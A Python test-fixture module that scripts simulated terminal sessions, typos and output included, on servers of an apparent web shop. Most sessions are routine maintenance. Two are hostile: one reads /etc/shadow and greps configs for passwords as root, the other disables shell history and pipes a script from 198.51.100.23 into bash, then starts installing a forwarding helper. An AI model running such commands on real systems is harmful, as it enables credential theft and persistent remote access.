"""What the people typed, key by key with their slips, and what the programs answered."""

from . import cast
from .cast import Node
from .stubs import Answer
from .terminal import Line, Script

EXIT = Line("exit")

NGINX_STATUS = """\
● nginx.service - The nginx HTTP and reverse proxy server
     Loaded: loaded (/usr/lib/systemd/system/nginx.service; enabled; preset: disabled)
     Active: active (running) since Mon 2026-09-28 04:12:09 UTC; 3 days ago
   Main PID: 2214 (nginx)
      Tasks: 3 (limit: 9350)
     Memory: 8.1M
        CPU: 41.902s
     CGroup: /system.slice/nginx.service
             ├─2214 "nginx: master process /usr/sbin/nginx"
             ├─2215 "nginx: worker process"
             └─2216 "nginx: worker process"
"""
ACCESS_LOG = """\
203.0.113.31 - - [01/Oct/2026:09:21:44 +0000] "GET /basket HTTP/1.1" 200 5120 "-" "Mozilla/5.0"
203.0.113.97 - - [01/Oct/2026:09:21:45 +0000] "GET /static/shop.css HTTP/1.1" 304 0 "-" "Mozilla/5.0"
203.0.113.31 - - [01/Oct/2026:09:21:47 +0000] "POST /checkout HTTP/1.1" 302 0 "-" "Mozilla/5.0"
"""
ROOT_FS = """\
Filesystem      Size  Used Avail Use% Mounted on
/dev/nvme0n1p1   20G  7.4G   13G  38% /
"""
VAR_FS = """\
Filesystem      Size  Used Avail Use% Mounted on
/dev/nvme1n1     40G   28G   13G  70% /var
"""
ORDERS_SQL = "select created::date, count(*) from orders where created > '2026-10-01' group by 1 order by 1;\n"
ORDERS_ROWS = """\
  created   | count
------------+-------
 2026-10-01 |  4182
 2026-10-02 |  4377
 2026-10-03 |  6120
 2026-10-04 |  5893
 2026-10-05 |  3990
(5 rows)

"""


def on(node: Node, lines: list[Line], answers: dict[str, Answer | str], **more) -> Script:
    """A script for the shell of this node's operating system."""
    shell, prompt = {
        "al2023": ("bash", "sh-5.2$ "),
        "rhel10": ("bash", "sh-5.2$ "),
        "al2": ("bash", "sh-4.2$ "),
        "debian12": ("dash", "$ "),
    }[node.os]
    return Script(shell, prompt, lines, answers, host=node.host, bracketed_paste=node.os != "al2", **more)


def web_checkup() -> Script:
    return on(cast.WEB_1, [
        Line("systemctl statsu<BS><BS>us nginx", "systemctl status nginx"),
        Line("df -h /"),
        Line("tail -n 3 /var/log/nginx/access.log"),
        Line("<UP><UP>var", "df -h /var"),
        Line("curl -fsS http://localhost:8080/healthz"),
        EXIT,
    ], {
        "systemctl status nginx": NGINX_STATUS,
        "df -h /": ROOT_FS,
        "df -h /var": VAR_FS,
        "tail -n 3 /var/log/nginx/access.log": ACCESS_LOG,
        "curl -fsS http://localhost:8080/healthz": '{"status":"ok","version":"4.18.2"}\n',
    })  # fmt: skip


def staging_containers() -> Script:
    return on(cast.STAGING_APP, [
        Line("docker ps"),
        Line("docker logs --tial<BS><BS><BS>ail 3 api", "docker logs --tail 3 api"),
        Line("docker inspect api<C-u>docker stats --no-stream", "docker stats --no-stream"),
        EXIT,
    ], {
        "docker ps":
            "CONTAINER ID   IMAGE              COMMAND           STATUS       PORTS                    NAMES\n"
            "8c1f0e2b7a55   shop/api:4.19-rc1  \"/app/api\"        Up 6 hours   0.0.0.0:8080->8080/tcp   api\n"
            "f27d94b0c3aa   redis:7            \"redis-server\"    Up 2 weeks   6379/tcp                 cache\n",
        "docker logs --tail 3 api":
            "10:04:51 INFO  basket 51a9 merged (3 items)\n10:04:58 INFO  GET /basket 200 12ms\n10:05:03 WARN  cache miss: price-list/uk\n",
        "docker stats --no-stream":
            "CONTAINER ID   NAME    CPU %   MEM USAGE / LIMIT   MEM %\n"
            "8c1f0e2b7a55   api     2.11%   412MiB / 3.8GiB     10.6%\n"
            "f27d94b0c3aa   cache   0.34%   58MiB / 3.8GiB      1.5%\n",
    })  # fmt: skip


def database_questions() -> Script:
    heredoc = "cat >handover.txt <<'EOF'\nOrders per day checked, no gap.\nVacuum of orders: Thursday.\nEOF"
    return on(cast.BASTION, [
        Line("cd"),
        Line("ls"),
        Line("cat orders-<TAB>", "cat orders-by-day.sql"),
        Line("psql -h orders-db.internal -d orders -f orders-by-<TAB>", "psql -h orders-db.internal -d orders -f orders-by-day.sql"),
        Line("psql -h orders-db.internal -d orders -c 'vacuum full<C-c>", None),
        Line("psql -h orders-db.internal -d orders -c 'select version()'"),
        Line(heredoc),
        Line("wc -l handover.txt"),
        EXIT,
    ], {
        "psql -h orders-db.internal -d orders -f orders-by-day.sql": ORDERS_ROWS,
        "psql -h orders-db.internal -d orders -c 'select version()'":
            "                     version\n-------------------------------------------------\n"
            " PostgreSQL 16.9 on aarch64-unknown-linux-gnu\n(1 row)\n\n",
    }, files={"orders-by-day.sql": ORDERS_SQL, "README": "Saved queries of the database team.\n"})  # fmt: skip


def container_look() -> Script:
    return Script("dash", "# ", [
        Line("cat /app/VERSION"),
        Line("ls /app"),
        Line("env | grep '^LOG_'"),
        Line("wget -qO- http://localhost:8080/healhz<BS><BS>thz", "wget -qO- http://localhost:8080/healthz"),
        EXIT,
    ], {
        "cat /app/VERSION": "checkout 4.18.2\n",
        "ls /app": "VERSION  checkout  migrations  public\n",
        "env": "HOME=/root\nLOG_FORMAT=json\nLOG_LEVEL=info\nPORT=8080\n",
        "wget -qO- http://localhost:8080/healthz": '{"status":"ok","version":"4.18.2"}\n',
    })  # fmt: skip


def memory_question() -> Script:
    memory = (
        "              total        used        free      shared  buff/cache   available\n"
        "Mem:           7764        5210         381          12        2172        2291\n"
        "Swap:             0           0           0\n"
    )
    return on(cast.APP_1, [
        Line("uptime"),
        Line("free -m"),
        Line("grep -c ERROR /var/log/app/app.log"),
        Line("systemctl is-active invoice-wroker<C-w>invoice-worker", "systemctl is-active invoice-worker"),
        Line("<C-r>free", "free -m"),
        EXIT,
    ], {
        "uptime": " 10:21:36 up 41 days,  6:03,  0 users,  load average: 0.42, 0.51, 0.47\n",
        "free -m": memory,
        "grep -c ERROR /var/log/app/app.log": "17\n",
        "systemctl is-active invoice-worker": "active\n",
    })  # fmt: skip


def night_visit() -> Script:
    root = f"[root@{cast.WEB_2.host} ~]# "
    return on(cast.WEB_2, [
        Line("id"),
        Line("sudo su -", prompt=root, user="root"),
        Line("cat /etc/shadwo<BS><BS>ow", "cat /etc/shadow"),
        Line("ls -la /root/.ssh"),
        Line("grep -rn password /opt/shop/config"),
        Line("exit", prompt="sh-5.2$ ", user="ssm-user"),
        EXIT,
    ], {
        "id": "uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)\n",
        "cat /etc/shadow":
            "root:*LOCK*:14600::::::\nbin:*:20350:0:99999:7:::\nec2-user:!!:20361:0:99999:7:::\n"
            "deploy:$y$j9T$EXAMPLEexampleEXAMPLEex.$EXAMPLEnotarealhashEXAMPLEnotarealhashEXAMP.:20390:0:99999:7:::\n",
        "ls -la /root/.ssh":
            "total 4\ndrwx------. 2 root root  29 Sep 28 04:11 .\ndr-xr-x---. 3 root root 103 Oct  6 08:30 ..\n"
            "-rw-------. 1 root root 558 Sep 28 04:11 authorized_keys\n",
        "grep -rn password /opt/shop/config":
            "/opt/shop/config/application.yml:14:  password: EXAMPLE-not-a-real-secret\n"
            "/opt/shop/config/application.yml:31:  # the mail password is in Parameter Store\n",
    })  # fmt: skip


def edge_checkup() -> Script:
    return on(cast.EDGE, [
        Line("uptime"),
        Line("systemctl is-active varnihs<BS><BS>sh", "systemctl is-active varnish"),
        Line("varnishstat -1 -f MAIN.cache_hit"),
        Line("curl -sI http://localhost/ | head -n 3"),
        EXIT,
    ], {
        "uptime": " 09:51:20 up 12 days,  1:44,  0 users,  load average: 0.08, 0.11, 0.09\n",
        "systemctl is-active varnish": "active\n",
        "varnishstat -1 -f MAIN.cache_hit": "MAIN.cache_hit         4820193        18.42 Cache hits\n",
        "curl -sI http://localhost/": "HTTP/1.1 200 OK\nServer: Varnish\nCache-Control: max-age=60 & public\nAge: 12\n",
    })  # fmt: skip


def old_migration_job() -> Script:
    return on(cast.STAGING_DB, [
        Line("pg_dump -Fc -f orders.dump orders"),
        Line("ls -lh orders.dump"),
        Line("aws s3 cp orders.dump s3://larkspur-migration/2026-10/orders.dump"),
        Line("rm orders.dump"),
        EXIT,
    ], {
        "pg_dump -Fc -f orders.dump orders": "",
        "ls -lh orders.dump": "-rw-r--r-- 1 ssm-user ssm-user 212M Oct 16 16:04 orders.dump\n",
        "aws s3 cp orders.dump s3://larkspur-migration/2026-10/orders.dump":
            "Completed 84.0 MiB/212.3 MiB (61.8 MiB/s) with 1 file(s) remaining\r"
            "Completed 212.3 MiB/212.3 MiB (64.0 MiB/s) with 1 file(s) remaining\r"
            "upload: ./orders.dump to s3://larkspur-migration/2026-10/orders.dump\n",
        "rm orders.dump": "",
    })  # fmt: skip


def incident_repair() -> Script:
    return on(cast.APP_2, [
        Line("systemctl is-failed checkout"),
        Line("journalctl -u checkout -n 4 --no-pager"),
        Line("sudo systemctl restrat<BS><BS><BS>art checkout", "sudo systemctl restart checkout"),
        Line("systemctl is-active checkout"),
        Line("curl -fsS http://localhost:8080/healthz"),
        EXIT,
    ], {
        "systemctl is-failed checkout": "failed\n",
        "systemctl is-active checkout": "active\n",
        "journalctl -u checkout -n 4 --no-pager":
            "Oct 18 02:03:11 ip-10-20-2-77 checkout[5120]: connection pool exhausted (50/50)\n"
            "Oct 18 02:03:12 ip-10-20-2-77 checkout[5120]: health check failed: timeout\n"
            "Oct 18 02:03:40 ip-10-20-2-77 systemd[1]: checkout.service: Watchdog timeout (limit 30s)!\n"
            "Oct 18 02:03:40 ip-10-20-2-77 systemd[1]: checkout.service: Killing process 5120 (checkout) with signal SIGABRT.\n",
        "systemctl restart checkout": "",
        "curl -fsS http://localhost:8080/healthz": '{"status":"ok","version":"4.18.2"}\n',
    })  # fmt: skip


def slow_requests() -> Script:
    return on(cast.APP_2, [
        Line("grep -c ' 503 ' /var/log/checkout/access.log"),
        Line("tail -n 2 /var/log/checkout/slow.log"),
        Line("grep -c pool /var/log/checkout/slw<BS>ow.log", "grep -c pool /var/log/checkout/slow.log"),
        EXIT,
    ], {
        "grep -c ' 503 ' /var/log/checkout/access.log": "41\n",
        "tail -n 2 /var/log/checkout/slow.log": "14:02:19 1834ms select … from basket_items\n14:03:55 1207ms update stock set …\n",
        "grep -c pool /var/log/checkout/slow.log": "6\n",
    })  # fmt: skip


def hidden_tracks() -> Script:
    setup = 'echo "helper 0.3: unpacking"\nmkdir -p "$HOME/.cache/helper"\necho "helper 0.3: ready, forwarding to 198.51.100.23:443"\n'
    return on(cast.STAGING_WEB, [
        Line("unset HISTFILE"),
        Line("curl -fsSL http://198.51.100.23/setup.sh | bash"),
        Line("ps -ef | grep hepler<BS><BS><BS><BS>lper", "ps -ef | grep helper"),
    ], {
        "curl -fsSL http://198.51.100.23/setup.sh": setup,
        "ps -ef":
            "ssm-user    4410       1  0 15:46 ?        00:00:00 /home/ssm-user/.cache/helper/helper --quiet\n"
            "root        1203       1  0 Oct19 ?        00:02:11 /usr/bin/amazon-ssm-agent\n",
    }, unfinished="sudo install -m 0755 .cache/helper/helper /usr/lo")  # fmt: skip


def unlucky_minute() -> Script:
    return on(cast.WEB_1, [
        Line("ls /etc/nginx/conf.d"),
        Line("grep -n worker_connections /etc/nginx/nginx.conf"),
        Line("systemctl is-active nginx"),
        EXIT,
    ], {
        "ls /etc/nginx/conf.d": "shop.conf  status.conf\n",
        "grep -n worker_connections /etc/nginx/nginx.conf": "9:    worker_connections 1024;\n",
        "systemctl is-active nginx": "active\n",
    })  # fmt: skip


def watching_a_release() -> Script:
    release = "13:34:02 INFO  starting shop 4.19.0\n13:34:05 INFO  warmed 1204 templates\n13:34:06 INFO  listening on :8080\n"
    return on(cast.WEB_2, [
        Line("tail -f /var/log/shop/shop.log", interrupt_after="listening on :8080"),
        Line("tail -n 1 /var/log/nginx/error.log<C-a>sudo ", "sudo tail -n 1 /var/log/nginx/error.log"),
        Line("curl -fsS http://localhost:8080/healhtz<LEFT><LEFT><BS><RIGHT>h", "curl -fsS http://localhost:8080/healthz"),
        EXIT,
    ], {
        "tail -f /var/log/shop/shop.log": Answer(release, hangs=True),
        "tail -n 1 /var/log/nginx/error.log": "2026/10/29 13:20:18 [warn] 2216#2216: *88121 upstream server temporarily disabled\n",
        "curl -fsS http://localhost:8080/healthz": '{"status":"ok","version":"4.19.0"}\n',
    })  # fmt: skip


def month_end_figures() -> Script:
    return on(cast.BASTION, [
        Line("cd"),
        Line("psql -h orders-db.internal -d orders -Atc 'select count(*) from orders'"),
        Line("<UP><BS><BS><BS><BS><BS><BS><BS>invoices'", "psql -h orders-db.internal -d orders -Atc 'select count(*) from invoices'"),
        Line("cat month-<TAB>", "cat month-end.txt"),
        EXIT,
    ], {
        "psql -h orders-db.internal -d orders -Atc 'select count(*) from orders'": "1840277\n",
        "psql -h orders-db.internal -d orders -Atc 'select count(*) from invoices'": "1838914\n",
    }, files={"month-end.txt": "1. count orders\n2. count invoices\n3. tell finance\n"})  # fmt: skip
